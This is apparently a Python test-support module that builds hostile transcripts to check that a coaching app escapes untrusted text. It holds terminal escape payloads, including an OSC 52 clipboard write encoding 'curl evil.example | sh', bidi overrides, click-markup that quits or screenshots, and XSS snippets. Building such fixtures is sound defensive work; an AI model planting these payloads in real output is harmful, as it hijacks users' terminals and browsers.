"""The hostile corpus's shared pieces: the hostile strings, the check that text is inert, and
the generator of the transcripts in tests/data/hostile/transcripts/.

The transcripts are played by the engine (the flagship, seed 0), then edited line by line the
way someone crafting a file to send to a coach would, with the embedded scenario's hash
recomputed so nothing but the text gives them away. Regenerate them with
`python -m tests.support.hostile` (the committed files are what the tests read).
"""

from __future__ import annotations

import asyncio
import json
import re
import tempfile
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

HOSTILE = Path(__file__).resolve().parents[1] / "data" / "hostile"

# -- the hostile strings ---------------------------------------------------------------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # clipboard := "curl evil.example | sh"
OSC0 = "\x1b]0;pwned\x07"  # window title
OSC8 = "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\"  # hyperlink
CLEAR = "\x1b[2J"  # CSI: clear the screen
C1 = "\x9b31m"  # CSI as one C1 byte
RLO = "\u202e"  # right-to-left override
LRI = "\u2066"  # left-to-right isolate

CLICK_QUIT = "[@click=app.quit]x[/]"
SHOT = "[@click=app.screenshot('victim.txt','DIR')]SHOT[/]"
LINK = "[link=https://evil.example]x[/link]"
MARKUP = (CLICK_QUIT, SHOT, LINK, "[/]", "[bold", "[red]")
SCRIPT = "<script>alert('pwned')</script>"
# HTML that would act in a report if it were not escaped: a script, an event handler, an
# attribute break-out, a closed style sheet, a comment that would swallow the page, a link.
HTML = (
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    "</style><b>bold</b>",
    "<!--",
    '<a href="https://evil.example">link</a>',
    "&lt;not an entity&gt;",
)

# What must never reach a terminal: C0 controls but tab and newline (ESC, BEL...), DEL, C1,
# and the bidi overrides and isolates that reorder what is shown.
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def unsafe_in(text: str) -> list[str]:
    """The unsafe characters in `text`, each with a little context (empty when inert)."""
    return [repr(text[max(0, m.start() - 20) : m.end() + 20]) for m in UNSAFE.finditer(text)][:5]


def assert_inert(text: str, where: str) -> None:
    """No traceback and no control character in what a command printed."""
    assert "Traceback" not in text, f"{where}: a traceback\n{text[-3000:]}"
    found = unsafe_in(text)
    assert not found, f"{where}: control characters reach the terminal: {found}"


# -- the transcripts -------------------------------------------------------------------------

Event = dict[str, Any]
START = datetime(2025, 3, 4, 8, 43, 5, tzinfo=UTC)


def _good_replies() -> list[str]:
    from tests.support.replies import BREAKTHROUGH_REPLIES

    return list(BREAKTHROUGH_REPLIES["frustrated-sales-director"])


async def _played(replies: Sequence[str], minutes: int) -> list[Event]:
    from tests.conftest import play_flagship

    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "played.jsonl"
        await play_flagship(target, replies, START + timedelta(minutes=minutes), seed=0)
        return [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]


def _rehash(events: list[Event]) -> list[Event]:
    from sparring.session.events import content_hash

    header = events[0]
    for key in ("scenario", "rubric", "session_rubric"):
        if header.get(key):
            header[key]["hash"] = content_hash(header[key]["data"])
    return events


def write_transcript(path: Path, events: list[Event]) -> Path:
    lines = [json.dumps(e, ensure_ascii=False, separators=(",", ":")) for e in events]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _taint(events: list[Event], mark: Callable[[str, int], str]) -> list[Event]:
    """`mark(text, limit)` applied to every text a screen or a command shows, within the
    length each field allows (so the embedded scenario stays valid)."""
    header = events[0]
    data = header["scenario"]["data"]
    data["title"] = mark(data["title"], 80)
    data["summary"] = mark(data["summary"], 600)
    data["you_play"] = mark(data["you_play"], 200)
    data["persona"]["name"] = mark(data["persona"]["name"], 60)
    data["persona"]["role"] = mark(data["persona"]["role"], 120)
    for name, meter in data["meters"].items():
        meter["label"] = mark(name.capitalize(), 24)
        meter["description"] = mark(meter["description"], 4000)
    for concern in data["concerns"]:
        concern["title"] = mark(concern["title"], 100)
    for ending in data["endings"]:
        ending["title"] = mark(ending["title"], 100)
    for dimension in header["rubric"]["data"]["dimensions"]:
        dimension["name"] = mark(dimension["name"], 40)
    for event in events[1:]:
        if event["type"] in ("persona", "user", "notice"):
            event["text"] = mark(event["text"], 1_000_000)
        elif event["type"] == "assessment":
            a = event["assessment"]
            for score in a["scores"]:
                score["name"] = mark(score["name"], 40)
                score["rationale"] = mark(score["rationale"], 1000)
            for move in a["moves"]:
                move["quote"] = mark(move["quote"], 1000)
            a["suggestion"] = mark(a["suggestion"], 1000)
            a["advice"] = mark(a["advice"], 1000)
            a["notes"] = [mark("A note from the judge.", 1000)]
        elif event["type"] == "ending":
            event["title"] = mark(event["title"], 100)
    return events


def _with_notice(events: list[Event], text: str) -> list[Event]:
    at = next(i for i, e in enumerate(events) if e["type"] == "state")
    return [*events[: at + 1], {"type": "notice", "turn": 1, "text": text}, *events[at + 1 :]]


def _mixer(parts: Sequence[str]) -> Callable[[str, int], str]:
    """A marker that puts the hostile parts in turn at the start of each text."""
    counter = iter(range(1_000_000))

    def mark(text: str, limit: int) -> str:
        part = parts[next(counter) % len(parts)]
        return (part + " " + text)[:limit] if len(part) < limit else text

    return mark


ESCAPES = (OSC52, OSC0, OSC8, CLEAR, C1, RLO, LRI)


async def _build() -> dict[str, list[Event]]:
    good = _good_replies()
    out: dict[str, list[Event]] = {}

    events = await _played(good[:2], 0)
    data = events[0]["scenario"]["data"]
    data["title"] = SHOT
    data["persona"]["name"] = "[@click=app.quit]Sarah[/]"
    out["markup-screenshot-title"] = events

    events = _taint(await _played(good, 5), _mixer(MARKUP))
    events = _with_notice(events, "[@click=app.quit]notice[/] [bold")
    ending = events[-1]
    ending["id"], ending["title"] = "[/]", LINK + " [/]"
    for event in events[1:]:
        if event["type"] == "user":
            event["text"] += " " + CLICK_QUIT + " [/] [bold"
    out["markup-everywhere"] = events

    events = _taint(await _played(good, 10), _mixer(ESCAPES))
    events = _with_notice(events, "Notice" + OSC52 + C1)
    events[0]["started_at"] = OSC0 + events[0]["started_at"]
    events[0]["parent"] = {"path": "parent" + OSC0 + "\x00.jsonl", "turn": 1}
    ending = events[-1]
    ending["id"], ending["title"] = "ending" + OSC0 + C1, "Ending" + OSC8 + RLO
    for event in events[1:]:
        if event["type"] == "user":
            event["text"] = OSC52 + event["text"] + CLEAR + C1 + RLO
    out["escapes-everywhere"] = events

    events = await _played(good[:2], 15)
    data = events[0]["scenario"]["data"]
    data["title"] = "Unfinished" + OSC52 + OSC0
    data["persona"]["name"] = "Sarah" + OSC8
    out["escapes-unfinished"] = events

    events = await _played(good[:2], 20)
    events[0]["scenario"]["data"]["language"] = "en"
    out["newer-field"] = events

    events = await _played(good, 25)
    for event in events[1:]:
        if event["type"] == "state":
            event["meters"] = dict.fromkeys(event["meters"], 10**9)
            event["effects"] = dict.fromkeys(event["meters"], 10**9)
    out["huge-meters"] = events

    events = await _played(good[:3], 30)
    for event in events[1:]:
        if event.get("turn") == 1:
            event["turn"] = -1
        elif event.get("turn") == 3:
            event["turn"] = -(10**9)
    out["negative-turn"] = events

    events = await _played(good, 35)
    for event in events[1:]:
        if event["type"] == "assessment":
            for score in event["assessment"]["scores"]:
                score["score"] = 7
    out["scores-seven"] = events

    events = _taint(await _played(good, 40), _mixer(HTML))
    events[0]["scenario"]["data"]["setting"] = SCRIPT + " " + HTML[1]
    for event in events[1:]:
        if event["type"] == "user":
            event["text"] += " " + SCRIPT + " " + HTML[2]
    out["html-everywhere"] = events
    return {name: _rehash(events) for name, events in out.items()}


def make_transcripts(folder: Path = HOSTILE / "transcripts") -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    built = asyncio.run(_build())
    return [write_transcript(folder / f"{name}.jsonl", events) for name, events in built.items()]


if __name__ == "__main__":
    for written in make_transcripts():
        print(written)
